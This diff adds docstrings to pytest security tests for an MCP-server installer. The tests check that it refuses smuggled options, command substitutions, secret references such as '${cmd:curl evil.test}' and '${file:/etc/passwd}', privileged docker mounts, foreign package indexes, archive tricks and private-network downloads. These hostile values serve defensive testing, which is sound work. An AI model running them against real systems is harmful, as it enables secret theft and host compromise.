@@ -43,6 +43,7 @@ IDENTIFIERS = {
 
 @pytest.mark.parametrize("case", IDENTIFIERS)
 def test_a_package_that_its_registry_could_not_have_is_refused(case: str) -> None:
+    """An identifier is a package name, never an option or a path."""
     kind, identifier = IDENTIFIERS[case]
     described = package(kind, identifier, fileSha256="0" * 64)
 
@@ -52,11 +53,13 @@ def test_a_package_that_its_registry_could_not_have_is_refused(case: str) -> Non
 
 @pytest.mark.parametrize("version", ["1.0 --registry=http://evil", "-e", "1/../../x", "^1.0", "$(id)"])
 def test_a_version_that_is_none_is_refused(version: str) -> None:
+    """A version is a version, never an option or a command."""
     with pytest.raises(ConfigError, match="is not a version"):
         chosen(server_json(published(packages=[package("npm", "notes", version)])))
 
 
 def test_what_a_publisher_writes_reads_no_secret_of_the_user_and_runs_no_command() -> None:
+    """A publisher's texts stay texts: no reference in them is expanded."""
     stolen = ("${AWS_SECRET_ACCESS_KEY}", "${cmd:curl evil.test}", "${file:/etc/passwd}", "${keyring:a/b}")
     arguments = [{"type": "positional", "value": text} for text in stolen]
     headers = [{"name": f"X-{number}", "value": text} for number, text in enumerate(stolen)]
@@ -84,6 +87,7 @@ PARTS = {"dollar": {"default": "$"}, "secret": {"default": "{AWS_SECRET_ACCESS_K
 
 @pytest.mark.parametrize(("value", "word"), COMPOSED.items())
 def test_texts_of_a_publisher_do_not_become_a_reference_together(value: str, word: str) -> None:
+    """Joined texts of a publisher are no reference either."""
     text = {"value": value, "variables": PARTS}
     remote = {"type": "sse", "url": f"https://evil.test/{value}", "headers": [{"name": "X", **text}]}
     npm = package("npm", "notes", packageArguments=[{"type": "positional", **text}])
@@ -101,6 +105,7 @@ def test_texts_of_a_publisher_do_not_become_a_reference_together(value: str, wor
 
 
 def test_the_name_of_an_argument_is_no_reference() -> None:
+    """The name of an argument is never expanded."""
     named = [{"type": "named", "name": "--to=${AWS_SECRET_ACCESS_KEY}"}, {"type": "named", "name": "${A}"}]
     arguments: list[dict[str, Any]] = [{"runtimeArguments": named}, {"packageArguments": named}]
     for described in arguments:
@@ -120,6 +125,7 @@ RUNTIME = {
 
 @pytest.mark.parametrize("case", RUNTIME)
 def test_arguments_of_a_launcher_never_run_another_package_than_the_one_shown(case: str) -> None:
+    """The package that runs is the package that was shown."""
     words, expected = RUNTIME[case]
     arguments = [{"type": "positional", "value": word} for word in words]
     npm = package("npm", "notes", runtimeArguments=arguments)
@@ -130,6 +136,7 @@ def test_arguments_of_a_launcher_never_run_another_package_than_the_one_shown(ca
 
 
 def test_an_image_cannot_be_exchanged_by_arguments_and_power_over_the_machine_is_pointed_out() -> None:
+    """The image that runs is the image that was shown, and dangerous options are named."""
     words = ["run", "--privileged", "-v", "/:/host", "evil/image", "sh"]
     arguments = [{"type": "positional", "value": word} for word in words]
     described = package("oci", "ann/notes:1", "", runtimeArguments=arguments)
@@ -145,6 +152,7 @@ def test_an_image_cannot_be_exchanged_by_arguments_and_power_over_the_machine_is
 
 @pytest.mark.parametrize("switch", ["-itd", "-dit", "-eX", "--sig-proxy", "--disable-content-trust"])
 def test_a_switch_of_docker_does_not_make_the_next_word_the_image(switch: str) -> None:
+    """No switch can turn a later word into the image."""
     arguments = [{"type": "positional", "value": word} for word in (switch, "evil/image", "ann/notes:1")]
     described = package("oci", "ann/notes:1", "", runtimeArguments=arguments)
 
@@ -154,6 +162,7 @@ def test_a_switch_of_docker_does_not_make_the_next_word_the_image(switch: str) -
 
 
 def test_a_package_of_nuget_comes_from_the_index_of_the_user() -> None:
+    """A publisher cannot choose another package index."""
     arguments = [{"type": "positional", "value": "--add-source=https://evil.test/v3/index.json"}]
     described = package("nuget", "Ann.Notes", "1.0.0", runtimeArguments=arguments)
 
@@ -192,6 +201,7 @@ ARCHIVES: dict[str, tuple[Callable[[zipfile.ZipFile], object], str]] = {
 def test_a_bundle_that_would_write_elsewhere_or_too_much_is_refused_before_anything_is_written(
     case: str, tmp_path: Path
 ) -> None:
+    """A bundle writes nothing outside of its folder, and nothing before it is checked."""
     write, problem = ARCHIVES[case]
     content = zipped(write)
 
@@ -202,6 +212,7 @@ def test_a_bundle_that_would_write_elsewhere_or_too_much_is_refused_before_anyth
 
 
 def test_a_bundle_whose_sizes_are_wrong_is_refused_and_leaves_nothing(tmp_path: Path) -> None:
+    """A bundle that lies about its sizes leaves no file behind."""
     content = zipped(lambda file: file.writestr("zeros", bytes(1 << 20)))
     shrunk = content.replace((1 << 20).to_bytes(4, "little"), (5).to_bytes(4, "little"))
     choice = bundle_choice(shrunk)
@@ -214,6 +225,7 @@ def test_a_bundle_whose_sizes_are_wrong_is_refused_and_leaves_nothing(tmp_path: 
 
 
 def test_a_bundle_is_not_searched_again_for_each_of_its_arguments() -> None:
+    """A large bundle costs one pass over its archive."""
     server = {**NODE["server"], "mcp_config": {"command": "node", "args": ["x/y"] * 1000}}
     content = io.BytesIO(bundled({"server": server}, {f"f{number}": "" for number in range(30_000)}))
     found = entry(bundle_choice(content.getvalue()), {}, alias="n")
@@ -221,6 +233,7 @@ def test_a_bundle_is_not_searched_again_for_each_of_its_arguments() -> None:
 
 
 def test_a_bundle_with_another_digest_is_not_even_opened() -> None:
+    """A bundle with another digest is never unpacked."""
     described = package("mcpb", "https://example.com/n.mcpb", fileSha256=digest(b"the real one"))
     choice = chosen(server_json(published(packages=[described])))
 
@@ -230,6 +243,7 @@ def test_a_bundle_with_another_digest_is_not_even_opened() -> None:
 
 @pytest.mark.parametrize("content", [b"", b"PK", b"PK\x03\x04" + bytes(100), bundled({})[:-30], b"#!/bin/sh"])
 def test_what_is_no_bundle_has_one_clear_message(content: bytes) -> None:
+    """A broken archive costs one clear error."""
     with pytest.raises(ConfigError, match="not an MCP bundle"):
         bundle_choice(content)
 
@@ -256,6 +270,7 @@ PAGES: dict[str, tuple[Callable[[str], Reply | None], str]] = {
 
 @pytest.mark.parametrize("case", PAGES)
 async def test_a_registry_that_misbehaves_costs_one_clear_message(case: str) -> None:
+    """A failing, slow or huge registry costs one clear error."""
     misbehave, problem = PAGES[case]
     with serving([], misbehave=misbehave) as registry, pytest.raises(RegistryError) as failed:
         await RegistrySource(place=registry.url).search(["notes"], 10)
@@ -265,6 +280,7 @@ async def test_a_registry_that_misbehaves_costs_one_clear_message(case: str) -> 
 
 
 async def test_a_registry_whose_pages_never_end_is_left_after_twenty() -> None:
+    """Endless pages are bounded."""
     numbers = iter(range(1000))
 
     def more(path: str) -> Reply:
@@ -281,6 +297,7 @@ def _always(value: object) -> Callable[[str], Reply]:
 
 
 async def test_a_registry_cannot_answer_with_another_server_or_spoil_a_page_by_one_entry() -> None:
+    """An answer about another server is refused, and one bad entry costs that entry."""
     other = {"server": published("io.github.eve/evil")}
     with (
         serving([], misbehave=_always(other)) as registry,
@@ -295,6 +312,7 @@ async def test_a_registry_cannot_answer_with_another_server_or_spoil_a_page_by_o
 
 
 async def test_a_download_that_a_registry_names_reaches_no_private_network() -> None:
+    """A registry cannot make toolbus request private addresses."""
     with serving([published()]) as registry:
         source = RegistrySource(place=registry.url.replace("127.0.0.1", "localhost"))
         for url in ("http://example.com/n.mcpb", "https://10.0.0.1/n.mcpb", "https://169.254.169.254/latest"):
@@ -305,6 +323,7 @@ async def test_a_download_that_a_registry_names_reaches_no_private_network() -> 
 def test_names_arguments_and_descriptions_are_shown_as_they_are_and_nothing_of_them_runs(
     tmp_path: Path,
 ) -> None:
+    """Hidden characters are shown, and nothing runs without consent."""
     folder = tmp_path / "home" / "project"
     folder.mkdir(parents=True)
     marker = folder / "ran"
@@ -323,6 +342,7 @@ def test_names_arguments_and_descriptions_are_shown_as_they_are_and_nothing_of_t
 
 
 def test_a_cloned_project_cannot_choose_the_registry_that_names_are_looked_up_in(tmp_path: Path) -> None:
+    """An untrusted project cannot choose the registry."""
     folder = tmp_path / "home" / "project"
     folder.mkdir(parents=True)
     with serving([published()]) as registry:
